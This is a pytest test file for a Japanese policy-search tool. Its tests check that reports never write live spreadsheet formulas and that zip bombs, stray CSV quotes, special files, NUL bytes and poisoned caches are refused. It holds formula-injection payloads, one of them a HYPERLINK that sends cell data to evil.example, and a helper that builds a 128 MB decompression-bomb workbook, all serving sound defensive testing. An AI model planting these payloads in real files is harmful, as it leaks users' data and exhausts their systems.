"""Hostile files and outputs (issue 22): no live formulas in any written table, no silent row loss, bounded
readers, outputs that never replace an input, and caches that cannot poison an index. Each test is the
reproduction of one attack or careless use, written before its fix."""

import csv
import io
import json
import os
import signal
import subprocess
import sys
import time
import zipfile
import zlib
from pathlib import Path

import numpy as np
import pytest
from openpyxl import Workbook, load_workbook

from index.corpus import CorpusError, load_cards, write_jsonl
from index.guard import InputRefused, WorkbookLimits, check_workbook, csv_text, looks_like_formula, read_input
from index.report import ReportError, ReportOptions, build_report, open_questions

ROOT = Path(__file__).resolve().parent.parent
PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "=1+2", "+1+1 テレワーク", "@SUM(1)", "-2+3 遠隔医療",
            "＝1+2 テレワーク", "\t=1+2"]


def _one_line(err: str, *words: str) -> str:
    assert "Traceback" not in err, err
    lines = [line for line in err.strip().splitlines() if line.strip()]
    assert lines, "no message"
    for w in words:
        assert any(w in line for line in lines), (w, err)
    return err


# ------------------------------------------------------------------------------------------------ formulas

def test_formula_text_is_recognised_and_plain_numbers_are_not():
    assert all(looks_like_formula(p) for p in PAYLOADS)
    assert not any(looks_like_formula(v) for v in ["-3", "+1.5", "-1,000", "テレワーク", "", 3, None, "a=b"])
    assert csv_text("=1+2") == "'=1+2" and csv_text("テレワーク") == "テレワーク" and csv_text(0.5) == 0.5


def _no_formula_cells(path: Path) -> list:
    """Every cell of every sheet that a spreadsheet would evaluate."""
    wb = load_workbook(path)
    return [(ws.title, c.coordinate, c.value) for ws in wb.worksheets for row in ws.iter_rows() for c in row
            if c.data_type == "f"]


def _texts(path: Path) -> set:
    wb = load_workbook(path)
    return {c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)}


def test_report_writes_no_live_formula_in_any_format(retriever, tmp_path):
    q = tmp_path / "q.csv"
    with open(q, "w", encoding="utf-8", newline="") as f:
        w = csv.writer(f)
        w.writerow(["No", "質問", "メモ"])
        for i, p in enumerate(PAYLOADS, 1):
            w.writerow([str(i), p, "=1+2" if i % 2 else "@SUM(A1)"])
    outs = {fmt: tmp_path / f"r.{fmt}" for fmt in ("xlsx", "csv", "html", "jsonl")}
    build_report(retriever, open_questions(q, "質問"), outs, ReportOptions(top_k=2))
    assert _no_formula_cells(outs["xlsx"]) == []
    texts = _texts(outs["xlsx"])
    for p in PAYLOADS:  # the visible text is the input's, whitespace of a question aside
        assert " ".join(p.split()) in texts
    assert "=1+2" in texts and "@SUM(A1)" in texts  # the carried column too
    rows = list(csv.reader(io.StringIO(outs["csv"].read_text(encoding="utf-8-sig"))))
    cells = [c for r in rows for c in r]
    assert not [c for c in cells if looks_like_formula(c)]
    assert "'=1+2" in cells and "'@SUM(A1)" in cells and "'" + " ".join(PAYLOADS[0].split()) in cells
    page = outs["html"].read_text(encoding="utf-8")
    assert "=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1,&quot;x&quot;)" in page
    queries = [json.loads(line)["query"] for line in outs["jsonl"].read_text(encoding="utf-8").splitlines()]
    assert queries[1] == "=1+2"  # JSONL is data for programs: the exact text


def _formula_cards(tmp_path: Path) -> Path:
    src = load_cards()
    rows = [{"id": c.id, "name": ("=" if i % 2 == 0 else "@") + c.name, "overview": c.overview,
             "ministries": c.ministries_raw} for i, c in enumerate(list(src)[:6])]
    rows[0]["name"] = '=HYPERLINK("http://evil.example/","x")'
    p = tmp_path / "b.csv"
    with open(p, "w", encoding="utf-8", newline="") as f:
        w = csv.DictWriter(f, fieldnames=["id", "name", "overview", "ministries"])
        w.writeheader()
        w.writerows(rows)
    return p


def test_similar_against_and_source_tables_write_no_live_formula(retriever, tmp_path):
    from index.report.overlap_files import write_comparison, write_overlap
    from index.report.similar import compare, overlap, space_of, space_of_file

    b = space_of_file(_formula_cards(tmp_path), retriever.embedder)
    cmp = compare(space_of(retriever.stored), b)
    ov = overlap(b, threshold=0.0)  # every pair of the hostile table: names starting with = and @
    assert ov.pairs
    for fmt in ("xlsx", "csv"):
        write_comparison(cmp, fmt, tmp_path / f"c.{fmt}", "施策集", "b.csv")
        write_overlap(ov, fmt, tmp_path / f"o.{fmt}", "b.csv")
    for name in ("c.xlsx", "o.xlsx"):
        assert _no_formula_cells(tmp_path / name) == [], name
        assert '=HYPERLINK("http://evil.example/","x")' in _texts(tmp_path / name)
    for name in ("c.csv", "o.csv"):
        cells = [c for r in csv.reader(io.StringIO((tmp_path / name).read_text(encoding="utf-8-sig"))) for c in r]
        assert not [c for c in cells if looks_like_formula(c)], name
        assert "'=HYPERLINK(\"http://evil.example/\",\"x\")" in cells


def test_the_roadmap_of_a_hostile_table_writes_no_live_formula(tmp_path):
    from index.corpus import load_cards as load
    from index.report.roadmap_files import write_roadmap

    cards = load(_formula_cards(tmp_path))  # names starting with = and @, one a HYPERLINK
    for fmt in ("xlsx", "csv"):
        write_roadmap(cards, fmt, tmp_path / f"roadmap.{fmt}", "b.csv")
    assert _no_formula_cells(tmp_path / "roadmap.xlsx") == []
    assert '=HYPERLINK("http://evil.example/","x")' in _texts(tmp_path / "roadmap.xlsx")
    cells = [c for r in csv.reader(io.StringIO((tmp_path / "roadmap.csv").read_text(encoding="utf-8-sig"))) for c in r]
    assert not [c for c in cells if looks_like_formula(c)]
    assert "'=HYPERLINK(\"http://evil.example/\",\"x\")" in cells


def test_web_report_writes_no_live_formula(retriever, tmp_path, monkeypatch):
    import app.ui_reports as ur

    monkeypatch.setattr(ur, "OUTPUT_ROOT", tmp_path / "out")
    q = tmp_path / "q.txt"
    q.write_text("\n".join(PAYLOADS[:4]) + "\n", encoding="utf-8")
    res = ur.run_report(retriever, str(q), top_k=2)
    xlsx = next(Path(f) for f in res["files"] if f.endswith(".xlsx"))
    assert _no_formula_cells(xlsx) == [] and "=1+2" in _texts(xlsx)


# ------------------------------------------------------------------------------------------------ zip bombs

def _bomb(path: Path, chars: int = 1 << 27, rows: int = 1) -> Path:
    """A real .xlsx whose sheet holds one inline cell of `chars` characters (compressed to a few hundred KB)."""
    wb = Workbook()
    wb.active.append(["id", "name", "overview"])
    wb.active.append(["01-01", "x", "y"])
    buf = io.BytesIO()
    wb.save(buf)
    src = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for info in src.infolist():
            if info.filename == "xl/worksheets/sheet1.xml":
                head = (b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
                        b'spreadsheetml/2006/main"><sheetData>')
                body = b'<row r="1"><c r="A1" t="inlineStr"><is><t>q</t></is></c></row>' * (rows - 1)
                with out.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as f:
                    f.write(head + body + b'<row r="%d"><c r="A%d" t="inlineStr"><is><t>' % (rows, rows))
                    block = b"A" * (1 << 20)
                    for _ in range(chars >> 20):
                        f.write(block)
                    f.write(b"</t></is></c></row></sheetData></worksheet>")
            else:
                out.writestr(info, src.read(info.filename))
    return path


def test_a_workbook_bomb_is_refused_by_its_limits_naming_the_file(tmp_path):
    bomb = _bomb(tmp_path / "bomb.xlsx", 1 << 24)
    assert bomb.stat().st_size < 200_000
    with pytest.raises(InputRefused) as e:
        check_workbook(bomb.read_bytes(), "bomb.xlsx")
    assert "bomb.xlsx" in str(e.value) and "131,072" in str(e.value) and "\n" not in str(e.value)
    with pytest.raises(InputRefused, match="rows"):
        check_workbook(_bomb(tmp_path / "rows.xlsx", 1 << 20, rows=50).read_bytes(), "rows.xlsx",
                       WorkbookLimits(rows=10))
    with pytest.raises(InputRefused, match="decompresses"):
        check_workbook(bomb.read_bytes(), "bomb.xlsx", WorkbookLimits(uncompressed_bytes=1 << 20))


def _peak_rss_mb(argv: list[str], env: dict) -> tuple[int, str, float]:
    """(exit status, stderr, peak RSS of the child in MB) of `seisaku ARGV` in a fresh process."""
    # VmHWM is the peak of this process's own memory map: ru_maxrss would also count the forked copy of the test
    # process from before exec (pytest holding an index measured ~400 MB that way)
    code = ("import re, sys; from app.cli import main; rc = main(sys.argv[1:]); "
            "hwm = re.search(r'VmHWM:\\s+(\\d+)', open('/proc/self/status').read()).group(1); "
            "print('PEAK', hwm, file=sys.stderr); sys.exit(rc)")
    p = subprocess.run([sys.executable, "-c", code, *argv], capture_output=True, text=True, env=env, timeout=300,
                       cwd=ROOT)
    peak = [line for line in p.stderr.splitlines() if line.startswith("PEAK")]
    err = "\n".join(line for line in p.stderr.splitlines() if not line.startswith("PEAK"))
    return p.returncode, err, int(peak[-1].split()[1]) / 1024 if peak else -1


def test_every_reader_of_workbooks_refuses_a_bomb_in_bounded_memory(retriever, cache_dir, tmp_path):
    bomb = _bomb(tmp_path / "bomb.xlsx")  # 128 MB in one cell: openpyxl held ~400 MB for it
    env = dict(os.environ, SEISAKU_CACHE_DIR=str(cache_dir), PYTHONPATH=str(ROOT))
    for argv in (["cards", "--check", str(bomb)], ["report", str(bomb), "-o", str(tmp_path / "r.xlsx")],
                 ["similar", "--against", str(bomb), "-o", str(tmp_path / "s.csv")]):
        t = time.monotonic()
        rc, err, peak = _peak_rss_mb(argv, env)
        assert rc != 0 and "bomb.xlsx" in err and "131,072" in err, (argv, err)
        _one_line(err)
        # the message is Japanese, then English; --against names the problem on a line of its own
        assert len(err.strip().splitlines()) <= (3 if "--against" in argv else 2), err
        assert peak < 400 and time.monotonic() - t < 60, (argv, peak)
    assert not (tmp_path / "r.xlsx").exists() and not (tmp_path / "s.csv").exists()


def test_the_web_report_and_comparison_refuse_a_bomb(retriever, tmp_path, monkeypatch):
    import app.ui_reports as ur

    monkeypatch.setattr(ur, "OUTPUT_ROOT", tmp_path / "out")
    bomb = _bomb(tmp_path / "bomb.xlsx", 1 << 22)
    assert "131,072" in ur.run_report(retriever, str(bomb))["message"]
    assert "131,072" in ur.preview_upload(str(bomb))[-1]
    assert "131,072" in ur.against_view(retriever, str(bomb))["message"]


# ------------------------------------------------------------------------------------------------ stray quotes

def test_an_unclosed_quote_in_a_question_file_is_an_error_naming_its_row(tmp_path):
    q = tmp_path / "q.csv"
    lines = ["No,質問"] + [f"{i},テレワークの質問 {i}" for i in range(1, 501)]
    lines[1] = '1,"テレワークの質問 1'  # the quote is never closed: 500 rows would become one cell
    q.write_text("\n".join(lines) + "\n", encoding="utf-8")
    with pytest.raises(ReportError) as e:
        t = open_questions(q)
        list(t.rows())
    assert "q.csv" in str(e.value) and "2" in e.value.en and "quote" in e.value.en


def test_two_stray_quotes_that_join_rows_are_an_error_too(tmp_path):
    q = tmp_path / "q.csv"
    lines = ["No,質問,担当"] + [f"{i},テレワークの質問 {i},課{i}" for i in range(1, 30)]
    lines[3] = '3,"テレワークの質問 3,課3'
    lines[9] = '9,テレワークの質問 9",課9'
    q.write_text("\n".join(lines) + "\n", encoding="utf-8")
    with pytest.raises(ReportError) as e:
        list(open_questions(q).rows())
    assert ":4" in e.value.en or "line 4" in e.value.en or "4 行目" in e.value.ja


def test_a_legit_multi_line_cell_is_still_read(tmp_path):
    q = tmp_path / "q.csv"
    q.write_text('No,質問,メモ\n1,"テレワークを\n推進する施策","a\nb"\n2,遠隔医療,c\n', encoding="utf-8")
    assert [r.query for r in open_questions(q).rows()] == ["テレワークを 推進する施策", "遠隔医療"]


def test_an_unclosed_quote_in_a_source_table_names_its_line(tmp_path):
    cards = list(load_cards())[:20]
    p = tmp_path / "s.csv"
    with open(p, "w", encoding="utf-8", newline="") as f:
        w = csv.writer(f)
        w.writerow(["id", "name", "overview"])
        for c in cards:
            w.writerow([c.id, c.name, c.overview.replace("\n", " ")])
    lines = p.read_text(encoding="utf-8").split("\n")
    lines[3] = lines[3].replace(",", ',"', 1)  # a stray quote opens the name cell of the third card
    p.write_text("\n".join(lines), encoding="utf-8")
    with pytest.raises(CorpusError) as e:
        load_cards(p)
    assert any(pr.line == 4 and "quote" in pr.message for pr in e.value.problems), e.value.problems


# ------------------------------------------------------------------------------------------------ input files

def test_a_fifo_and_a_device_are_refused_without_blocking(tmp_path):
    fifo = tmp_path / "q.csv"
    os.mkfifo(fifo)
    for path in (fifo, Path("/dev/zero")):
        t = time.monotonic()
        with pytest.raises(InputRefused, match="not a regular file"):
            read_input(path)
        with pytest.raises(ReportError, match="not a regular file"):
            open_questions(path)
        with pytest.raises(CorpusError, match="not a regular file"):
            load_cards(path)
        assert time.monotonic() - t < 5


def test_a_file_over_the_input_limit_is_refused_unread(tmp_path):
    big = tmp_path / "big.txt"
    big.write_bytes(b"x" * 2000)
    with pytest.raises(InputRefused, match="limit is 1,000"):
        read_input(big, 1000)


def test_nul_bytes_anywhere_are_refused(tmp_path):
    p = tmp_path / "q.txt"
    p.write_bytes(("テレワーク\n" * 2000).encode() + b"\x00evil\n")  # past the first 8 KB
    with pytest.raises(ReportError, match="NUL"):
        open_questions(p)
    s = tmp_path / "s.csv"
    s.write_bytes(b"id,name,overview\n" + b"01-01,x,y\n" * 2000 + b"01-02,\x00,y\n")
    with pytest.raises(CorpusError, match="NUL"):
        load_cards(s)


# ------------------------------------------------------------------------------------------------ outputs

def test_output_equal_to_the_input_is_refused(cli, tmp_path):
    q = tmp_path / "q.csv"
    q.write_text("質問\nテレワーク\n", encoding="utf-8")
    rc, _, err = cli("report", q, "-o", q)
    assert rc != 0 and "q.csv" in err and q.read_text(encoding="utf-8") == "質問\nテレワーク\n"
    link = tmp_path / "same.csv"
    link.symlink_to(q)
    rc, _, err = cli("report", q, "-o", link, "--format", "csv")
    assert rc != 0 and q.read_text(encoding="utf-8") == "質問\nテレワーク\n"


def test_an_unknown_output_suffix_needs_format(cli, tmp_path):
    q = tmp_path / "q.txt"
    q.write_text("テレワーク\n", encoding="utf-8")
    rc, _, err = cli("report", q, "-o", tmp_path / "r.pdf")
    assert rc == 2 and "r.pdf" in err and "--format" in err and not (tmp_path / "r.pdf").exists()
    rc, _, err = cli("similar", "-o", tmp_path / "s.pdf")
    assert rc == 2 and "--format" in err and not (tmp_path / "s.pdf").exists()
    assert cli("report", q, "-o", tmp_path / "r.pdf", "--format", "csv")[0] == 0  # told: written as asked


def test_top_k_past_the_sheet_width_is_refused_before_any_file(cli, tmp_path):
    q = tmp_path / "q.txt"
    q.write_text("テレワーク\n", encoding="utf-8")
    rc, _, err = cli("report", q, "--top-k", "3000", "-o", tmp_path / "x.xlsx")
    assert rc != 0 and "--top-k" in err and "16,384" in err
    assert sorted(p.name for p in tmp_path.iterdir()) == ["q.txt"]  # no 0-byte temp beside it


def test_disk_full_names_the_path_on_its_own_line(cli, tmp_path, monkeypatch):
    import errno

    import index.report.writers as w

    q = tmp_path / "q.txt"
    q.write_text("テレワーク\n", encoding="utf-8")

    def full(self):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(w.AtomicFile, "commit", full)
    rc, _, err = cli("report", q, "-o", tmp_path / "r.csv")
    assert rc == 1 and "Traceback" not in err
    line = next(line for line in err.splitlines() if "No space left on device" in line)
    assert str(tmp_path / "r.csv") in line and line.startswith(("エラー", "error"))
    assert sorted(p.name for p in tmp_path.iterdir()) == ["q.txt"]


def test_sigterm_removes_the_temp_files_as_sigint_does(retriever, cache_dir, tmp_path):
    q = tmp_path / "q.txt"
    q.write_text("\n".join(f"テレワークの推進 {i}" for i in range(3000)) + "\n", encoding="utf-8")
    env = dict(os.environ, SEISAKU_CACHE_DIR=str(cache_dir), PYTHONPATH=str(ROOT))
    for sig in (signal.SIGINT, signal.SIGTERM):
        p = subprocess.Popen([sys.executable, "-m", "app.cli", "report", str(q), "-o", str(tmp_path / "r.xlsx")],
                             env=env, cwd=tmp_path, stderr=subprocess.PIPE, text=True)
        deadline = time.monotonic() + 120
        while not list(tmp_path.glob(".r.xlsx.*")) and time.monotonic() < deadline and p.poll() is None:
            time.sleep(0.05)
        assert list(tmp_path.glob(".r.xlsx.*")), p.stderr.read() if p.poll() is not None else "no temp file"
        p.send_signal(sig)
        err = p.communicate(timeout=60)[1]
        assert p.returncode != 0 and "Traceback" not in err, err
        assert sorted(x.name for x in tmp_path.iterdir()) == ["q.txt"], sig


# ------------------------------------------------------------------------------------------------ smaller

@pytest.mark.parametrize("argv, words", [
    (["report", "{q}", "--max-chars", "0"], ["--max-chars"]),
    (["report", "{q}", "--max-chars", "-1"], ["--max-chars"]),
    (["similar", "--threshold", "2"], ["--threshold", "0"]),
    (["similar", "--threshold", "-1"], ["--threshold"]),
    (["similar", "--threshold", "nan"], ["--threshold"]),
    (["report", "{q}", "--column", ""], ["--column"]),
    (["serve", "--host", "999.1.1.1"], ["999.1.1.1"]),
])
def test_bad_arguments_are_one_clear_line(argv, words, cli, tmp_path):
    q = tmp_path / "q.csv"
    q.write_text("質問\nテレワーク\n", encoding="utf-8")
    rc, out, err = cli(*[a.replace("{q}", str(q)) for a in argv])
    assert rc == 2, (rc, out, err)
    line = _one_line(err, *words)
    assert len(line.strip().splitlines()) == 1, err
    assert "使用中" not in err and "text file" not in err


def test_confidences_are_always_finite_json(retriever):
    import math

    res = retriever.search("テレワークの普及")
    res.confidence = float("nan")
    res.results[0] = __import__("dataclasses").replace(res.results[0], confidence=float("nan"), score=float("inf"))
    text = json.dumps(res.to_dict(), allow_nan=False)  # NaN is not JSON
    d = json.loads(text)
    assert all(math.isfinite(x) for x in [d["confidence"], *[r["confidence"] for r in d["results"]]])


# ------------------------------------------------------------------------------------------------ embedding cache

def test_a_poisoned_embedding_cache_is_re_embedded_with_a_warning(retriever, cache_dir, embedder, tmp_path, capfd):
    import shutil

    from index.config import Settings
    from index.retrieve import open_retriever

    source = tmp_path / "tiny.jsonl"
    write_jsonl(load_cards().cards[:6], source)
    cache = tmp_path / "cache"
    shutil.copytree(cache_dir / "embeddings", cache / "embeddings")
    settings = Settings(cache_dir=cache, source=str(source))
    questions = ["信号の情報提供", "港湾の電子化", "交通規制情報の精度", "視覚障害者の移動支援"]
    clean = open_retriever(settings, embedder=embedder)
    assert clean.stored.manifest["embedded_texts"] == 0
    before = [[(h.card.id, round(h.score, 5)) for h in clean.search(q).results] for q in questions]
    shards = sorted((cache / "embeddings").rglob("*.npy"))
    for i, npy in enumerate(shards):  # a NaN over the first vector of every shard
        vecs = np.load(npy)
        vecs[0, 0] = np.nan
        np.save(npy, vecs)
        if i % 2:  # some without their digest (a shard written before digests): caught by its values
            npy.with_suffix(".sha256").unlink(missing_ok=True)
    capfd.readouterr()
    rebuilt = open_retriever(settings, embedder=embedder, rebuild="always")
    err = capfd.readouterr().err
    assert "damaged" in err and "embedded again" in err
    assert np.isfinite(rebuilt.stored.vectors.vectors()).all()
    assert rebuilt.stored.manifest["embedded_texts"] > 0
    after = [[(h.card.id, round(h.score, 5)) for h in rebuilt.search(q).results] for q in questions]
    assert after == before
    for q in questions:
        d = rebuilt.search(q).to_dict()
        json.dumps(d, allow_nan=False)
    again = open_retriever(settings, embedder=embedder, rebuild="always")  # the damaged shards are gone
    assert again.stored.manifest["embedded_texts"] == 0


# ------------------------------------------------------------------------------------------------ compiled engine

def _fake_build(good_so: Path, fail_first: str | None = None):
    """subprocess.run for fast_engine: the compile copies a known-good library, the check passes; the first
    compile fails with `fail_first` as the compiler's message when given."""
    import shutil

    calls = {"n": 0}

    def run(cmd, **kw):
        calls["n"] += 1
        if "-o" in cmd:
            if fail_first and calls["n"] == 1:
                return subprocess.CompletedProcess(cmd, 1, "", fail_first)
            shutil.copyfile(good_so, cmd[cmd.index("-o") + 1])
        return subprocess.CompletedProcess(cmd, 0, "", "")

    return run


@pytest.fixture
def good_engine(cache_dir, embedder):
    from index.engine import fast_engine

    path = fast_engine(cache_dir)
    if path is None:
        pytest.skip("no fast engine on this machine")
    return path


def test_a_damaged_engine_library_is_rebuilt_never_loaded(good_engine, tmp_path, monkeypatch, capfd):
    import shutil

    import index.engine as engine

    folder = tmp_path / "engine"
    folder.mkdir()
    for p in good_engine.parent.glob(good_engine.stem + ".*"):
        shutil.copy(p, folder / p.name)
    target = folder / good_engine.name
    target.write_bytes(target.read_bytes()[:4096])  # truncated: loading it would crash with SIGBUS
    monkeypatch.setattr(engine.subprocess, "run", _fake_build(good_engine))
    assert engine.fast_engine(tmp_path) == target
    assert target.read_bytes() == good_engine.read_bytes()
    assert "damaged" in capfd.readouterr().err
    flipped = bytearray(target.read_bytes())
    flipped[len(flipped) // 2] ^= 0xFF  # same size, other bytes
    target.write_bytes(bytes(flipped))
    assert engine.fast_engine(tmp_path) == target and target.read_bytes() == good_engine.read_bytes()


def test_an_engine_library_without_its_build_record_is_named_so_and_built_once(good_engine, tmp_path, monkeypatch,
                                                                                capfd):
    # a .so left by a set-up that kept no record (or copied in) is unchecked, not "damaged": said as such, built
    # once with its record, then used without a word
    import shutil

    import index.engine as engine

    folder = tmp_path / "engine"
    folder.mkdir()
    target = folder / good_engine.name
    shutil.copy(good_engine, target)  # the library alone, no .json beside it
    monkeypatch.setattr(engine.subprocess, "run", _fake_build(good_engine))
    assert engine.fast_engine(tmp_path) == target
    err = capfd.readouterr().err
    assert "no build record" in err and "building it once" in err and "damaged" not in err
    assert engine._record_of(target).exists()
    assert engine.fast_engine(tmp_path) == target and capfd.readouterr().err == ""


def test_a_truncated_engine_in_the_cache_does_not_crash_a_command(good_engine, retriever, cache_dir, tmp_path):
    import shutil

    cache = tmp_path / "cache"
    # not the question log: copying a live SQLite file from a process that has it open (the in-process web app)
    # drops that process's fcntl locks on it, and the other servers on the test cache then reset the log under it
    # ("disk I/O error", or SIGBUS; see index/querylog.py)
    shutil.copytree(cache_dir, cache, ignore=shutil.ignore_patterns("web-reports", "querylog.sqlite3*"))
    so = cache / "engine" / good_engine.name
    so.write_bytes(so.read_bytes()[:8192])
    env = dict(os.environ, SEISAKU_CACHE_DIR=str(cache), PYTHONPATH=str(ROOT))
    p = subprocess.run([sys.executable, "-m", "app.cli", "search", "テレワークの普及", "--top-k", "1"],
                       capture_output=True, text=True, env=env, timeout=600, cwd=tmp_path)
    assert p.returncode == 0, (p.returncode, p.stderr[-2000:])
    assert "04-03" in p.stdout and "damaged" in p.stderr


def test_a_failed_build_is_tried_again_on_a_later_run_and_the_engine_is_named(good_engine, tmp_path, monkeypatch,
                                                                              capsys):
    import index.engine as engine

    monkeypatch.setattr(engine.subprocess, "run", _fake_build(good_engine, "cc1: fatal error: No space left on device"))
    assert engine.fast_engine(tmp_path) is None and "No space left" in engine.last_reason
    assert list((tmp_path / "engine").glob("*.failed"))
    assert engine.fast_engine(tmp_path) is not None  # the disk was freed: the next run builds it
    assert engine.last_reason == ""
    # any other failure is tried again once RETRY_AFTER_SECONDS have passed, not never
    other = tmp_path / "other"
    monkeypatch.setattr(engine.subprocess, "run", _fake_build(good_engine, "error: unknown flag"))
    assert engine.fast_engine(other) is None
    assert engine.fast_engine(other) is None and "failed" in engine.last_reason
    marker = next((other / "engine").glob("*.failed"))
    old = time.time() - engine.RETRY_AFTER_SECONDS - 1
    os.utime(marker, (old, old))
    assert engine.fast_engine(other) is not None


def test_seisaku_index_names_the_engine_in_use(cli):
    rc, out, err = cli("index")
    assert rc == 0 and "engine: " in out
